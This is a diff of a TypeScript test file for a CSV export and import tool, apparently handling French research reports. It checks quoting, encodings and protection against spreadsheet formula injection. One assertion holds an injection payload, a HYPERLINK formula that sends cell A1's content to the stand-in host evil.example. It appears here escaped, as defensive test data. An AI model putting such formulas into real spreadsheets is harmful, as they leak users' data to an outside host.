@@ -11,7 +11,7 @@ import { spawnSync } from 'node:child_process';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import ExcelJS from 'exceljs';
-import { CsvError, SEPARATOR, readCsv, writeCsv } from '../../scripts/spreadsheet/csv.ts';
+import { CsvError, SPREADSHEET_CSV, readCsv, writeCsv } from '../../src/open-data/csv.ts';
 import { buildWorkbook, exportCsv, loadContent } from '../../scripts/spreadsheet/workbook.ts';
 import { PAYLOADS, formulaCells, looksLikeFormula } from '../csv-payloads.ts';
 import { formatImportProblem, formatSummary, importCsv, type SheetProblem } from '../../scripts/spreadsheet/import.ts';
@@ -21,10 +21,13 @@ const ROUND = 'Bilans 2023, 2024 et 2025 de la convention';
 const bytes = (text: string) => new TextEncoder().encode(text);
 
 test('the writer: BOM, semicolons, CRLF, and quotes only where a field needs them', () => {
-  const text = writeCsv([
-    ['a', 'b;c', 'dit « oui »', 'le "mot"', 'deux\nlignes', ' espace', ''],
-    ['1.2', '', 'R', '', '', '', 'fin'],
-  ]);
+  const text = writeCsv(
+    [
+      ['a', 'b;c', 'dit « oui »', 'le "mot"', 'deux\nlignes', ' espace', ''],
+      ['1.2', '', 'R', '', '', '', 'fin'],
+    ],
+    SPREADSHEET_CSV,
+  );
   assert.equal(text, '\uFEFFa;"b;c";dit « oui »;"le ""mot""";"deux\nlignes";" espace";\r\n1.2;;R;;;;fin\r\n');
 });
 
@@ -35,7 +38,7 @@ test('the reader takes back what Excel and LibreOffice write', () => {
     ['x/action-2', '', ''],
   ];
   // Our own output, with and without BOM, with LF or CRLF line endings.
-  const written = writeCsv(rows);
+  const written = writeCsv(rows, SPREADSHEET_CSV);
   assert.deepEqual(readCsv(bytes(written)), rows);
   assert.deepEqual(readCsv(bytes(written.slice(1))), rows, 'sans BOM');
   assert.deepEqual(readCsv(bytes(written.replace(/\r\n/g, '\n'))), rows, 'fins de ligne LF');
@@ -148,7 +151,7 @@ function editedCsv(name: string, edit: (rows: string[][], column: (h: string) =>
   const rows = readCsv(readFileSync(insermCsv));
   edit(rows, (h) => rows[0]!.indexOf(h));
   const file = join(exportDir, name);
-  writeFileSync(file, writeCsv(rows).slice(1).replace(/\r\n/g, '\n'));
+  writeFileSync(file, writeCsv(rows, SPREADSHEET_CSV).slice(1).replace(/\r\n/g, '\n'));
   return file;
 }
 
@@ -266,7 +269,7 @@ test('formula-safe: no cell of the exported CSV starts like a formula, and impor
   const text = readFileSync(files[0]!, 'utf8');
   // The content is hostile (else this test proves nothing); the file is not.
   assert.ok(readCsv(readFileSync(files[0]!)).flat().filter(looksLikeFormula).length >= 5);
-  assert.deepEqual(formulaCells(text, SEPARATOR), []);
+  assert.deepEqual(formulaCells(text, SPREADSHEET_CSV.separator), []);
   assert.ok(text.includes(`;"'-${ROUND}";`), 'en-tête protégé');
   assert.ok(text.includes(`;"'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")";`));
   const result = importCsv(files, { root: dir });
@@ -284,7 +287,7 @@ test('formula-safe: values starting with "-", "+", "=" or an apostrophe typed in
   // Saved by our writer (each protected cell after its apostrophe) and, for the first one, as a
   // spreadsheet that drops the apostrophe would save it.
   const file = join(dir, 'csv', `${INSERM}.csv`);
-  writeFileSync(file, writeCsv(rows).replace(`"'-3 postes"`, '-3 postes'));
+  writeFileSync(file, writeCsv(rows, SPREADSHEET_CSV).replace(`"'-3 postes"`, '-3 postes'));
   const result = importCsv([file], { root: dir });
   assert.deepEqual(result.problems.map(formatImportProblem), []);
   assert.match(formatSummary(result.changes), /^0 statut modifié, 5 commentaires modifiés, 0 texte modifié\./);
